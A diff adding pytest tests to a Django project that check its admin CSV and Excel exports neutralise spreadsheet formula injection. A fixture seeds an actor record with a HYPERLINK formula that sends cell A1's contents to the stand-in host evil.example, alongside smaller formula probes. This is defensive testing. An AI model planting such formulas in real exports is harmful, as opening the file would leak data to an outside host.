@@ -1,8 +1,11 @@
 """Staff import and export (django-import-export): round trips, all-or-nothing, admin flow."""
 
+import csv
 import datetime
+import io
 import zoneinfo
 
+import openpyxl
 import pytest
 import tablib
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -11,7 +14,7 @@ from import_export.formats.base_formats import CSV, XLSX
 
 from actors.models import Actor, SustainableDevelopmentGoal
 from events.models import DatePrecision, Event, Participation
-from networks.models import Membership, Network
+from networks.models import ExpertExchange, Membership, Network
 from opendata.resources import (
     ActorResource,
     EventResource,
@@ -330,3 +333,83 @@ def test_koordinationsstelle_group_may_import_every_model(staff_client):
         "events_participation",
     ]:
         assert staff_client.get(reverse(f"admin:{model}_import")).status_code == 200, model
+
+
+# --- spreadsheet formulas ------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"L")'
+
+
+@pytest.fixture
+def formulas(db):
+    actor = ActorFactory(
+        slug="weltladen",
+        city=HYPERLINK,
+        contact_person="@SUM(1+1)",
+        phone="+49 7141 910-0",
+        latitude="-33.918861",
+        longitude="18.423300",
+        founded_year=1985,
+    )
+    ExpertExchange.objects.create(actor=actor, expert_name="=1+1", expert_function="-2+3")
+    return actor
+
+
+def admin_export(staff_client, model, file_format):
+    url = reverse(f"admin:{model}_export")
+    page = staff_client.get(url)
+    response = staff_client.post(url, {"format": file_format, "resource": "0"} | _all_fields(page))
+    assert response.status_code == 200
+    return response
+
+
+def xlsx_cells(response):
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    header = [cell.value for cell in sheet[1]]
+    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
+
+
+@pytest.mark.parametrize(
+    ("model", "column", "expected"),
+    [
+        ("actors_actor", "city", "'" + HYPERLINK),
+        ("actors_actor", "contact_person", "'@SUM(1+1)"),
+        ("networks_expertexchange", "expert_name", "'=1+1"),
+    ],
+)
+def test_formulas_arrive_as_text_in_the_admin_excel_export(
+    staff_client, formulas, model, column, expected
+):
+    (row,) = xlsx_cells(admin_export(staff_client, model, "1"))
+    assert not [cell.coordinate for cell in row.values() if cell.data_type == "f"]
+    assert row[column].value == expected
+
+
+def test_numbers_stay_numbers_in_the_admin_excel_export(staff_client, formulas):
+    (row,) = xlsx_cells(admin_export(staff_client, "actors_actor", "1"))
+    assert (row["latitude"].data_type, row["founded_year"].data_type) == ("n", "n")
+    assert float(row["latitude"].value) == pytest.approx(-33.918861)
+    assert row["phone"].value == "'+49 7141 910-0"
+
+
+def test_formulas_arrive_as_text_in_the_admin_csv_export(staff_client, formulas):
+    response = admin_export(staff_client, "actors_actor", "0")
+    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
+    assert row["city"] == "'" + HYPERLINK
+    assert row["contact_person"] == "'@SUM(1+1)"
+    assert row["latitude"] == "-33,918861"  # a number (in German notation), not a formula
+
+
+@pytest.mark.parametrize("file_format", [CSV(), XLSX()], ids=["csv", "xlsx"])
+def test_text_that_looks_like_a_formula_survives_export_and_reimport(formulas, file_format):
+    Actor.objects.filter(pk=formulas.pk).update(teaser="'=schon mit Hochkomma", street="'Hof")
+    before = list(Actor.objects.values("city", "contact_person", "phone", "teaser", "street"))
+
+    content = export(ActorResource, file_format)
+    result = ActorResource().import_data(load(file_format, content), dry_run=False)
+
+    assert not result.has_errors() and not result.has_validation_errors()
+    assert result.totals["skip"] == 1
+    assert list(Actor.objects.values("city", "contact_person", "phone", "teaser", "street")) == (
+        before
+    )
